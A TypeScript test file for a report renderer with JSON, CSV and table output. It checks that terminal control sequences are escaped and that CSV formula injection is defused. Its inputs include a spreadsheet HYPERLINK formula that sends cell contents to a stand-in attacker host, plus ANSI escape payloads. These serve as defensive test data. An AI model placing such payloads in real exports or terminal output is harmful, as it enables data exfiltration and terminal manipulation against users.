import { describe, expect, it } from 'vitest';
import type { FailureRow } from '../db/report-store.ts';
import { FAILURE_COLUMNS } from './report-columns.ts';
import { type Column, formatSeconds, renderRows } from './report-output.ts';

interface Row {
  name: string | null;
  at: Date | null;
  seconds: number;
  shared: boolean;
}

const COLUMNS: readonly Column<Row>[] = [
  { key: 'name', header: 'NAME', value: (r) => r.name },
  { key: 'at', header: 'AT', value: (r) => r.at },
  { key: 'seconds', header: 'LASTED', value: (r) => r.seconds, kind: 'duration' },
  { key: 'shared', header: 'SHARED', value: (r) => r.shared, table: false },
];

const ROWS: Row[] = [
  { name: 'web, "prod"', at: new Date('2026-03-01T08:00:00.250Z'), seconds: 7500, shared: true },
  { name: null, at: null, seconds: 12.4, shared: false },
];

describe('formatSeconds', () => {
  it('shows the two largest units', () => {
    expect([0, 45, 245, 7500, 273_600].map(formatSeconds)).toEqual(['0s', '45s', '4m05s', '2h05m', '3d04h']);
  });
});

describe('renderRows', () => {
  it('JSON: every column by key, ISO times with milliseconds, numbers and nulls as they are', () => {
    expect(JSON.parse(renderRows(ROWS, COLUMNS, 'json', { terminal: true }))).toEqual([
      { name: 'web, "prod"', at: '2026-03-01T08:00:00.250Z', seconds: 7500, shared: true },
      { name: null, at: null, seconds: 12.4, shared: false },
    ]);
  });

  it('JSON: escapes what a terminal could act on and still parses back to the exact text', () => {
    const name = '\u001b[2Jx\u009b\u202e';
    const text = renderRows([{ ...ROWS[1], name } as Row], COLUMNS, 'json', { terminal: true });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence
    expect(text).not.toMatch(/[\u001b\u009b\u202e]/);
    expect(JSON.parse(text)[0].name).toBe(name);
  });

  it('CSV: a header of keys, RFC 4180 quoting, controls stripped on a terminal only', () => {
    expect(renderRows(ROWS, COLUMNS, 'csv', { terminal: false })).toBe(
      ['name,at,seconds,shared', '"web, ""prod""",2026-03-01T08:00:00.250Z,7500,true', ',,12.4,false'].join(
        '\n',
      ),
    );
    const hostile = [{ ...ROWS[1], name: 'a\u001b[31mb' } as Row];
    expect(renderRows(hostile, COLUMNS, 'csv', { terminal: true }).split('\n')[1]).toBe('ab,,12.4,false');
    expect(renderRows(hostile, COLUMNS, 'csv', { terminal: false }).split('\n')[1]).toBe(
      'a\u001b[31mb,,12.4,false',
    );
  });

  it('CSV: text that a spreadsheet would run as a formula starts with a quote; numbers stay numbers', () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1', '-2', '@SUM(A1)', '\tx', 'a=b'];
    const lines = renderRows(
      names.map((name) => ({ ...ROWS[1], name, seconds: -3 }) as Row),
      COLUMNS,
      'csv',
      { terminal: false },
    )
      .split('\n')
      .slice(1);
    expect(lines).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",,-3,false`,
      "'+1,,-3,false",
      "'-2,,-3,false",
      "'@SUM(A1),,-3,false",
      "'\tx,,-3,false",
      'a=b,,-3,false',
    ]);
  });

  it('table: API text without escapes or controls', () => {
    const hostile = [{ ...ROWS[1], name: '\u001b[31m红色\u001b[0m\u0007 x\u009b2J\u202e' } as Row];
    expect(renderRows(hostile, COLUMNS, 'table', { terminal: false }).split('\n')[1]).toMatch(
      /^红色 x2J +12s$/,
    );
  });

  it('table: the table columns, whole-second times, readable durations, "(no rows)" when empty', () => {
    expect(renderRows(ROWS, COLUMNS, 'table', { terminal: false }).split('\n')).toEqual([
      'NAME         AT                    LASTED',
      'web, "prod"  2026-03-01T08:00:00Z  2h05m',
      '                                   12s',
    ]);
    expect(renderRows([], COLUMNS, 'table', { terminal: true })).toBe('NAME  AT  LASTED\n(no rows)');
  });
});

describe('the failures report', () => {
  // An image deleted while still failed: the period ended by deletion.
  const deletedWhileFailed = {
    account: 'default',
    regionId: 'cn-hangzhou',
    imageId: 'm-1',
    name: 'web',
    period: 1,
    status: '3',
    statusLabel: 'create_failed',
    enteredAt: new Date('2026-03-01T08:00:00Z'),
    leftAt: new Date('2026-03-02T08:00:00Z'),
    durationSeconds: 86_400,
    isCurrent: false,
    endedBy: 'deleted',
    nextStatus: null,
    nextStatusLabel: null,
    currentStatus: '3',
    currentStatusLabel: 'create_failed',
    deletedAt: new Date('2026-03-02T08:00:00Z'),
  } as unknown as FailureRow;

  it('gives the view’s values in JSON and CSV, and words them for reading only in the table', () => {
    const [json] = JSON.parse(renderRows([deletedWhileFailed], FAILURE_COLUMNS, 'json', { terminal: false }));
    expect(json).toMatchObject({
      nextStatusLabel: null,
      currentStatusLabel: 'create_failed',
      endedBy: 'deleted',
    });
    const csv = renderRows([deletedWhileFailed], FAILURE_COLUMNS, 'csv', { terminal: false });
    const [header = '', line = ''] = csv.trim().split('\n');
    const fields = Object.fromEntries(header.split(',').map((name, index) => [name, line.split(',')[index]]));
    expect(fields).toMatchObject({
      nextStatusLabel: '',
      currentStatusLabel: 'create_failed',
      endedBy: 'deleted',
    });
    const table = renderRows([deletedWhileFailed], FAILURE_COLUMNS, 'table', { terminal: false });
    expect(table).toMatch(/create_failed\s.*\sdeleted\s+deleted/);
  });
});
